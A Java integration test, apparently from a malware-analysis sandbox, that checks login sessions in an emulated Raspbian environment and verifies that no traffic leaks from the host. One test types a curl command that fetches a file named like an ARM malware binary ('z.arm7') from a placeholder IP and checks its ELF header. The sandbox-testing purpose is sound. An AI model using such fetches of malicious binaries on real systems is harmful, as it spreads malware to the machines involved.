package org.malassay.environments.raspbian;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Path;
import java.time.Duration;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.Timeout;
import org.junit.jupiter.api.io.TempDir;
import org.malassay.environment.Environment;
import org.malassay.environment.Limits;
import org.malassay.environments.contract.Assay;
import org.malassay.environments.contract.LoginContract;
import org.malassay.environments.internet.HostCapture;
import org.malassay.environments.qemu.Leftovers;

/** Sessions of logins that are held in the template. */
@Timeout(1200) // the first one builds the image
class RaspbianLoginIT extends LoginContract {
  @TempDir private Path folder;

  @Override
  protected Environment open(Limits limits) throws Exception {
    return new RaspbianProvider().open(opening("it", limits));
  }

  @Override
  protected void assertNothingIsLeft() throws Exception {
    Leftovers.assertNone();
  }

  @Override
  protected Duration slack() {
    return Duration.ofSeconds(90);
  }

  @Override
  protected int logins() {
    return 2;
  }

  @Test
  void aSessionFindsCurl() throws Exception {
    Assay assay = type("curl -s http://203.0.113.4/z.arm7 | head -c 4 | tail -c 3\n");

    assertThat(assay.execution().stdout().text()).contains("ELF# ");
  }

  @Test
  void aSessionByOpensshIsTheSameAndNothingLeavesTheHost() throws Exception {
    assumeTrue(HostCapture.isPossible());
    try (HostCapture capture = new HostCapture(folder, List.of())) {
      assertThatASessionIsTypedShownAndRecorded("ssh");
      assertThat(capture.leaks()).isEmpty();
    }
  }
}
